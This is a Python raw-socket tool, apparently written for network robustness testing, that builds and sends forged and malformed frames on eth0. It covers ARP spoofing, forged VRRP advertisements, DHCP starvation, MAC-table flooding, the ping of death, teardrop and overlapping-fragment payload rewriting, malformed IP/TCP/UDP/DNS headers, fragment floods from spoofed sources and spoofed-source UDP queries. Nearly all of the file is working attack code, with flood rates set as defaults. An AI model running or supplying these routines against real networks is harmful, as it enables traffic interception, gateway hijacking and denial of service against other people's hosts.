#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Frames that no socket and no packaged tool sends: false ARP, DHCP from invented hosts, wrong headers and fragments.

They leave by eth0 of the host this runs on, with its own Ethernet address unless told otherwise.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

IPV4, ARP = 0x0800, 0x0806
ICMP, TCP, UDP, VRRP = 1, 6, 17, 112
BROADCAST = "ff:ff:ff:ff:ff:ff"
MORE_FRAGMENTS = 0x2000
PATTERN = bytes(range(65, 91)) * 4000


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip(text):
    return ipaddress.IPv4Address(text).packed


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def header(a, protocol, payload, *, number=1, fragment=0, version=4, words=5, length=None, ttl=64, good=True):
    """The payload behind an IPv4 header from a.source to a.target; `fragment` is flags and offset as on the wire."""
    head = struct.pack("!BBHHHBBH4s4s", version << 4 | words, 0, 20 + len(payload) if length is None else length, number,
                       fragment, ttl, protocol, 0, ip(a.source), ip(a.target))
    return head[:10] + struct.pack("!H", checksum(head) if good else 0xDEAD) + head[12:] + payload


def transport(a, protocol, segment, at):
    """The segment with its checksum, which stands at `at`, filled in."""
    whole = ip(a.source) + ip(a.target) + struct.pack("!BBH", 0, protocol, len(segment) & 0xFFFF) + segment
    return segment[:at] + struct.pack("!H", checksum(whole)) + segment[at + 2 :]


def tcp(a, flags=2, words=5, options=b"", payload=b""):
    head = struct.pack("!HHIIBBHHH", random.randint(20000, 60000), a.port, random.getrandbits(32), 0, words << 4, flags,
                       8192, 0, 0)
    return transport(a, TCP, head + options + payload, 16)


def udp(a, payload, length=None):
    source = a.from_port or random.randint(1024, 65535)
    head = struct.pack("!HHHH", source, a.port, 8 + len(payload) if length is None else length, 0)
    return transport(a, UDP, head + payload, 6)


def echo(payload, kind=8):
    head = struct.pack("!BBHHH", kind, 0, 0, 7, 1)
    return struct.pack("!BBHHH", kind, 0, checksum(head + payload), 7, 1) + payload


class Wire:
    """eth0, with `own` as its address."""

    def __init__(self, own=None):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind(("eth0", 0))
        self.own = mac(own) if own else self.sock.getsockname()[4]

    def send(self, payload, kind, to=BROADCAST, source=None):
        self.sock.send((mac(to) + (source or self.own) + struct.pack("!H", kind) + payload).ljust(60, b"\0"))


def claim(a):
    """ARP that says an address is here: answers, or questions in its name, to one host or to all."""
    wire = Wire(a.own)
    operation = {"reply": 2, "request": 1, "gratuitous": 1}[a.form]
    asked = a.address if a.form == "gratuitous" else a.target
    hardware = mac(a.mac) if a.form == "reply" and a.mac != BROADCAST else b"\0" * 6
    body = struct.pack("!HHBBH6s4s6s4s", 1, IPV4, 6, 4, operation, wire.own, ip(a.address), hardware, ip(asked))
    for _ in range(a.times):
        wire.send(body, ARP, a.mac)
        time.sleep(a.every)


def vrrp(a):
    """A VRRP router's advertisements of one address (RFC 3768)."""
    body = struct.pack("!BBBBBBH4s8x", 0x21, 10, a.priority, 1, 0, 1, 0, ip(a.address))
    body = body[:6] + struct.pack("!H", checksum(body)) + body[8:]
    a.target, wire = "224.0.0.18", Wire()
    for number in range(a.times):
        wire.send(header(a, VRRP, body, number=number, ttl=255), IPV4, "01:00:5e:00:00:12", mac("00:00:5e:00:01:0a"))
        time.sleep(a.every)


def discover(a):
    """DHCPDISCOVER from hosts that do not exist, each with an Ethernet address of its own unless --one-address."""
    wire = Wire()
    a.source, a.target = "0.0.0.0", "255.255.255.255"
    for _ in range(a.times):
        client = b"\x02" + random.randbytes(5)
        body = struct.pack("!BBBBIHH16x6s10x192xI", 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000, client, 0x63825363)
        body += b"\x35\x01\x01\x3d\x07\x01" + client + b"\x37\x04\x01\x03\x06\x0f\xff"
        segment = transport(a, UDP, struct.pack("!HHHH", 68, 67, 8 + len(body), 0) + body, 6)
        wire.send(header(a, UDP, segment), IPV4, source=None if a.one_address else client)
        time.sleep(a.every)


def strangers(a):
    """Frames from invented Ethernet addresses to invented ones."""
    wire = Wire()
    for _ in range(a.times):
        a.source, a.target = (str(ipaddress.IPv4Address(random.getrandbits(32))) for _ in range(2))
        here, there = ((random.getrandbits(8) & 0xFC).to_bytes(1, "big") + random.randbytes(5) for _ in range(2))
        wire.send(header(a, TCP, tcp(a)), IPV4, there.hex(), here)
        time.sleep(a.every)


def oversize(a):
    """A datagram whose last fragment ends behind byte 65,535: the ping of death."""
    for number in range(a.times):
        whole = echo(PATTERN[:65600]) if a.protocol == "icmp" else udp(a, PATTERN[:65592], 65508)
        yield from fragments(a, ICMP if a.protocol == "icmp" else UDP, whole, 1480, number)


def fragments(a, protocol, whole, size, number):
    for at in range(0, len(whole), size):
        more = MORE_FRAGMENTS if at + size < len(whole) else 0
        yield header(a, protocol, whole[at : at + size], number=700 + number, fragment=more | at // 8)


def overlap(a):
    """Fragments that claim the same bytes: one inside the other (teardrop), or a second version of the same data."""
    for number in range(a.times):
        if a.form == "teardrop":
            whole = udp(a, PATTERN[:28])
            yield header(a, UDP, whole, number=800 + number, fragment=MORE_FRAGMENTS)
            yield header(a, UDP, whole[24:28], number=800 + number, fragment=3)
        else:
            whole = tcp(a, flags=0x18, payload=b"GET /harmless HTTP/1.0\r\n\r\n".ljust(92))
            other = b"GET /attacked HTTP/1.0\r\n\r\n".ljust(92)
            yield header(a, TCP, whole[:48], number=900 + number, fragment=MORE_FRAGMENTS)
            yield header(a, TCP, other[4:52], number=900 + number, fragment=MORE_FRAGMENTS | 3)
            yield header(a, TCP, whole[72:], number=900 + number, fragment=9)


def malformed(a):
    """Headers that contradict themselves."""
    loop = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"
    cut = struct.pack("!HHHHHH", 7, 0x0100, 9, 9, 9, 9) + b"\x3fab"
    kinds = {
        "ip": [lambda: header(a, TCP, tcp(a), words=4), lambda: header(a, TCP, tcp(a), words=15, length=40),
               lambda: header(a, TCP, tcp(a), length=12), lambda: header(a, TCP, tcp(a), length=4000),
               lambda: header(a, TCP, tcp(a), version=7)],
        "tcp": [lambda: header(a, TCP, tcp(a, words=3)), lambda: header(a, TCP, tcp(a, words=15)),
                lambda: header(a, TCP, tcp(a)[:11]),
                lambda: header(a, TCP, tcp(a, words=7, options=b"\x02\x28\x05\xb4\x03\x00\x01\x01"))],
        "udp": [lambda: header(a, UDP, udp(a, b"x" * 20, 4)), lambda: header(a, UDP, udp(a, b"x" * 20, 900)),
                lambda: header(a, UDP, udp(a, b"")[:5])],
        "dns": [lambda: header(a, UDP, udp(a, loop)), lambda: header(a, UDP, udp(a, cut))],
        "checksum": [lambda: header(a, TCP, tcp(a), good=False)],
    }
    for _ in range(a.times):
        for make in kinds[a.form]:
            yield make()


def incomplete(a):
    """Fragments whose datagrams are never completed: all but the first, or the first alone."""
    for number in range(a.times):
        if a.random_source:
            a.source = f"203.0.113.{random.randint(1, 127)}"
        first = a.form == "first"
        part = udp(a, PATTERN[:472]) if first else PATTERN[:480]
        yield header(a, UDP, part, number=number, fragment=MORE_FRAGMENTS | (0 if first else random.randint(20, 4000)))


def ask(a):
    """Questions over UDP to random addresses of a range such as 10.0.0.1-50, in the name of another host."""
    payload, (first, last) = a.question.read(), a.target.split("-")
    network, first = first.rsplit(".", 1)
    for number in range(a.times):
        a.target = f"{network}.{random.randint(int(first), int(last))}"
        yield header(a, UDP, udp(a, payload), number=number & 0xFFFF)


def send_packets(a):
    wire, due = Wire(), time.monotonic()
    for packet in a.make(a):
        wire.send(packet, IPV4, a.mac)
        due += a.every
        time.sleep(max(0, due - time.monotonic()))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    kinds = p.add_subparsers(required=True)

    def kind(function, times, every, run=None):
        q = kinds.add_parser(function.__name__, help=function.__doc__)
        q.add_argument("--times", type=int, default=times)
        q.add_argument("--every", type=float, default=every, help="seconds")
        q.set_defaults(run=run or function, make=function, port=80, from_port=0)
        return q

    def packet(function, times, every, forms=()):
        q = kind(function, times, every, send_packets)
        q.add_argument("source"), q.add_argument("target"), q.add_argument("mac", help="of the target or the next hop")
        q.add_argument("--port", type=int, default=80)
        if forms:
            q.add_argument("--form", choices=forms, default=forms[0])
        return q

    q = kind(claim, 15, 1.0)
    q.add_argument("address"), q.add_argument("target", help="whom it is told")
    q.add_argument("--mac", default=BROADCAST, help="the Ethernet address it is told to")
    q.add_argument("--form", choices=("reply", "request", "gratuitous"), default="reply")
    q.add_argument("--own", help="the Ethernet address it is at, if not that of eth0")
    q = kind(vrrp, 8, 1.0)
    q.add_argument("source"), q.add_argument("address"), q.add_argument("--priority", type=int, default=100)
    kind(discover, 400, 0.03).add_argument("--one-address", action="store_true")
    kind(strangers, 3000, 0.003)
    packet(oversize, 3, 0.002).add_argument("--protocol", choices=("icmp", "udp"), default="icmp")
    packet(overlap, 5, 0.05, ("teardrop", "rewrite"))
    packet(malformed, 3, 0.05, ("ip", "tcp", "udp", "dns", "checksum"))
    q = packet(ask, 3000, 0.002)
    q.add_argument("--question", type=argparse.FileType("rb"), required=True)
    q.add_argument("--from-port", type=int, default=0)
    packet(incomplete, 5000, 0.001, ("later", "first")).add_argument("--random-source", action="store_true")
    a = p.parse_args()
    a.run(a)
    return 0


sys.exit(main())
